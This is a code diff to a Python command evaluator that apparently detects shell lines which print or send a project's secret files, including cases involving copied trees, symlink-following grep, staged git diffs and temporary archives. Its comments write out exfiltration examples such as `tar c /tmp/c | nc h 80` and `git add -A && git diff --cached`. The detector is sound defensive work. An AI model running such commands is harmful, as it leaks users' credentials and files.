@@ -712,12 +712,16 @@ class Evaluator:
         # holding a secret is of class secret_holder there (View._holds; the project_exfiltration rows).
         # A recursive search printing every file's text to the caller (`grep -r X .`) reads it to them too.
         sends = bool(commands) and _sends_away(commands, self.policy.programs.senders)
-        view.printed_only = not sends and bool(commands) and _prints_trees(commands, text)
+        view.printed_only = not sends and bool(commands) and _prints_trees(commands, text, view)
         view.holders = sends or view.printed_only
         if view.holders:
             # a tree reader naming no folder reads the working one (`fd -X cat | nc h 80`): judged with it named;
             # a tree copied on the line is read where it came from (`cp -r . /tmp/c && tar c /tmp/c | nc h 80`)
             commands = _copied_trees(_implicit_folders(_printed_folders(commands)))
+        elif commands and any(command.name in _TREE_COPIERS for command in commands):
+            # a file read in a tree copied on the line is read where it came from (`cp -r . ../c; cat ../c/.*`: the
+            # copy is not on disk when the line is judged, so its globs land on nothing; open37)
+            commands = _copied_trees(commands)
         if _DOT_GLOBS.search(text) is not None:
             commands = _with_dot_names(commands)
         classify = view.classify
@@ -1432,11 +1436,16 @@ def _copied_trees(commands: list[Command]) -> list[Command]:
         argv = command.argv
         for destination, sources in copies:
             for i, word in enumerate(argv[1:], 1):
-                path = _absolute(word, command.cwd)
+                path = _from_start(word, command.cwd)
                 if path == destination or path.startswith(destination + "/"):
                     for source in sources:
                         replaced = (*argv[:i], source + path[len(destination) :], *argv[i + 1 :])
-                        out = [*out, _through_link(command, replaced, "copy")]
+                        copied = _through_link(command, replaced, "copy")
+                        if command.cwd is not None and not source.startswith(("/", "~")):
+                            # moved by `cd` (`cp -r . ../c; cd ../c && cat .*`): a source named from where the
+                            # line started is read from there (open37)
+                            copied.cwd = None
+                        out = [*out, copied]
         if command.name in _TREE_COPIERS:
             indices = recursive_words(command)
             words = [argv[i] for i in indices]
@@ -1448,9 +1457,21 @@ def _copied_trees(commands: list[Command]) -> list[Command]:
             else:
                 continue
             if sources and ":" not in destination:
-                absolute = _absolute(destination, command.cwd).rstrip("/") or "/"
-                copies.append((absolute, [_absolute(w, command.cwd) for w in sources]))
+                absolute = _from_start(destination, command.cwd).rstrip("/") or "/"
+                copies.append((absolute, [_from_start(w, command.cwd) for w in sources]))
     return out
+
+
+# a folder named relative to where the line started, with no value known only when it runs (`../c`, `out/x`)
+_PLAIN_FOLDER: Final = re.compile(r"(?!/|~)[\w./@+-]+")
+
+
+def _from_start(word: str, cwd: str | None) -> str:
+    """``word`` named from where the line started: joined to the folder a command ran in when that is known, an
+    absolute one or one named from the start (`cd ../c`); otherwise as spelled."""
+    if cwd is not None and not word.startswith(("/", "~")) and _PLAIN_FOLDER.fullmatch(cwd) is not None:
+        return posixpath.normpath(posixpath.join(cwd, word))
+    return _absolute(word, cwd)
 
 
 def _absolute(word: str, cwd: str | None) -> str:
@@ -1638,7 +1659,7 @@ _NAME_ONLY = frozenset(
 )
 
 
-def _prints_trees(commands: list[Command], text: str) -> bool:
+def _prints_trees(commands: list[Command], text: str, view: View | None = None) -> bool:
     """Whether a stage of the line prints the text of every file of a folder it walks (to the caller,
     or to a file it reads next): `grep -r X .`, `rg --hidden X .`, `ack X .`, `find . -exec
     cat {} +`, `fd -H -X cat`, `find . -type f | xargs cat`. Set tests per command, no look at the disk.
@@ -1655,12 +1676,18 @@ def _prints_trees(commands: list[Command], text: str) -> bool:
             if not present.isdisjoint(quiet) or (walks and present.isdisjoint(walks)):
                 continue
             includes = shaped.option_values("include")
-            if includes and all(_SOURCE_NAMES.fullmatch(glob) for glob in includes):
+            if (
+                includes
+                and all(_SOURCE_NAMES.fullmatch(glob) for glob in includes)
+                and not (present & _DEREFERENCES and _links_pass(command, shaped, includes, view))
+            ):
                 continue  # `grep -r --include='*.py' X .`: no secret's name passes
             if _reaches_caller(command, commands, text, 0, kept):
                 return True
         elif name == "git":
-            if _git_prints_files(command) and _reaches_caller(command, commands, text, 0, kept):
+            if (_git_prints_files(command) or _git_staged_trees(command, commands)) and _reaches_caller(
+                command, commands, text, 0, kept
+            ):
                 return True
         elif name in _FINDERS:
             # what it runs on each file, as the line reads it (`-exec sh -c 'wc -l "$1"'` runs wc), else by name
@@ -1674,6 +1701,9 @@ def _prints_trees(commands: list[Command], text: str) -> bool:
             and _reaches_caller(command, commands, text, 0, kept)
         ):
             return True  # `python3 -c "[print(open(f).read()) for f in os.listdir('.')]"`
+        elif name in _ARCHIVERS and (to := _archives_to(command)) is not None and ("$" in to or "`" in to):
+            return True  # `tar czf "$(mktemp)" .`: an archive named only by the run, which no later call can be
+            # followed to by name (open37)
         elif name in _ARCHIVERS and _archives_to(command) == "-" and _reaches_caller(command, commands, text, 0, kept):
             return True  # `tar c .`, `tar cf - . | strings`, `zip -r - . | cat`, `find . | cpio -o`
         elif (
@@ -1763,6 +1793,87 @@ def _git_prints_files(command: Command) -> bool:
     return verb == ["diff"] and "no-index" in flags
 
 
+_DEREFERENCES = frozenset({"R", "dereference-recursive"})  # a grep reading what the links it walks lead to
+
+
+def _links_pass(command: Command, shaped: Shape, includes: list[str], view: View | None) -> bool:
+    """Whether a search that follows links (`grep -R --include='*.py' X .`) may read a link whose name passes its
+    includes (`x.py -> .env`: what it prints is the `.env`), in the trees it names (the working one when none); a
+    tree that cannot be walked for certain, or a folder only the run knows, may (open37)."""
+    if view is None:
+        return True
+    given = shaped.option_values("e") + shaped.option_values("regexp") + shaped.option_values("f")
+    trees = shaped.positionals if given else shaped.positionals[1:]
+    for word in trees or ["."]:
+        index = command.argv.index(word) if word in command.argv else -1
+        if index >= 0 and command.dynamic[index]:
+            return True
+        names = view.link_names(word, command.cwd)
+        if names is None or any(fnmatch.fnmatchcase(name, glob) for name in names for glob in includes):
+            return True
+    return False
+
+
+# git's verbs printing the text of what its index or a commit holds (after `git add -A`: every file not ignored,
+# a `.env` too), and those stashing or staging a tree's files that git does not track
+_GIT_PRINTS_STAGED = frozenset({"diff", "show", "log", "whatchanged", "format-patch"})
+_GIT_UNTRACKED = frozenset({"u", "a", "include-untracked", "all", "only-untracked"})
+
+
+def _git_staged_trees(command: Command, commands: list[Command]) -> list[str]:
+    """The folders (or files) whose files git, as ``command``, prints from its index, a commit or a stash, where
+    an earlier stage of the line put the tree's untracked files there (`git add -A && git diff --cached`, `git
+    stash -u && git stash show -p -u`: a `.env` not ignored), or a stash's untracked files (`git stash show -p
+    --include-untracked`: the tree's, as stashed by an earlier call). Gitignore is not read (open37)."""
+    shaped = _shaped(command)
+    verb = shaped.positionals[:2]
+    flags = shaped.short | shaped.long
+    if verb[:1] == ["stash"] and verb[1:] == ["show"]:
+        if flags.isdisjoint(("p", "patch")):
+            return []  # a summary of what changed (`--stat` unless told `-p`)
+        if not flags.isdisjoint(_GIT_UNTRACKED):
+            return ["."]
+    elif verb[:1] and verb[0] in _GIT_PRINTS_STAGED:
+        if verb[0] in ("log", "whatchanged") and flags.isdisjoint(("p", "u", "patch")):
+            return []
+        if verb[0] == "format-patch" and "stdout" not in flags:
+            return []
+        if not flags.isdisjoint(_GIT_QUIET) and flags.isdisjoint(("p", "patch", "patch-with-stat")):
+            return []
+        if verb[0] == "diff" and "no-index" in flags:
+            return []
+    else:
+        return []
+    staged: list[str] = []
+    for earlier in commands:
+        if earlier is command:
+            break
+        if earlier.name == "git":
+            staged.extend(_git_stages(earlier))
+    return staged
+
+
+def _git_stages(command: Command) -> list[str]:
+    """What a git command puts into the index or a stash with the files git does not track: `git add -A`, `git add
+    .`, `git add config` (its pathspecs; the tree for `-A` alone or a magic pathspec), `git stash -u` (the tree)."""
+    shaped = _shaped(command)
+    verb = shaped.positionals[:1]
+    flags = shaped.short | shaped.long
+    if verb == ["add"]:
+        if "u" in flags or "update" in flags:
+            return []  # the tracked files only
+        paths = [p if p[:1] != ":" else "." for p in shaped.positionals[1:]]
+        return paths or (["."] if not flags.isdisjoint(("A", "all", "no-ignore-removal")) else [])
+    if verb == ["stash"] and not flags.isdisjoint(_GIT_UNTRACKED - {"only-untracked"}):
+        rest = shaped.positionals[1:]
+        if rest[:1] in (["push"], ["save"]):
+            rest = rest[1:] if rest[:1] == ["push"] else []
+        elif rest:
+            return []  # another verb (`git stash show -u`)
+        return [p if p[:1] != ":" else "." for p in rest] or ["."]
+    return []
+
+
 def _lists_names(command: Command) -> bool:
     """Whether an archiver only lists an archive's names (`tar tf x.tar`, `unzip -l x.zip`, `7z l x.7z`)."""
     name = command.name
@@ -1789,6 +1900,9 @@ def _reaches_caller(
     if any(op == ">&" and target not in ("1", "-") for op, target in command.redirects):
         return True  # `grep -r KEY . >&2 | wc -l`: its output dup'd to the terminal's (`2>&1` reads as target 1)
     if _output_to_file(command, text):
+        if any(op in _WRITES and ("$" in target or "`" in target) for op, target in command.redirects):
+            return True  # `> "$(mktemp)"`, `> $f` with f unknown: a name only the run knows, which no later call
+            # can be followed to by name (the session remembers files by name; open37)
         if kept is not None:
             kept.update(t for op, t in command.redirects if op in (">", ">>", ">|", "&>", "&>>") and t)
         return False
@@ -1803,6 +1917,9 @@ def _reaches_caller(
         not _keeps_output(c) and not _lists_names(c) and _reaches_caller(c, commands, text, depth + 1, kept)
         for c in readers
     )
+
+
+_WRITES = frozenset({">", ">>", ">|", "&>", "&>>"})
 
 
 def _output_to_file(command: Command, text: str) -> bool:
@@ -1898,6 +2015,10 @@ def _printed_folders(commands: list[Command]) -> list[Command]:
         if command.name == "git" and _git_prints_files(command) and _git_walks_cwd(command):
             argv, dynamic = (*command.argv, "."), (*command.dynamic, False)  # `git grep --no-index X .`
             out = [*out, _through_link(command, argv, "cwd", dynamic)]
+        elif command.name == "git" and (staged := _git_staged_trees(command, commands)):
+            # `git add -A && git diff --cached`: the staged tree printed, as `git diff --no-index` prints it
+            argv = ("git", "diff", "--no-index", "/dev/null", *staged)
+            out = [*out, _through_link(command, argv, "cwd", (False,) * len(argv))]
         elif command.code is not None and _walks_in_code(command.code):
             folders = [p for p in code_paths(command.code) if p.rstrip("/").rsplit("/", 1)[-1][:1] != "-"][:8]
             argv = ("find", ".", *folders, "-type", "f", "-exec", "cat", "{}", "+")
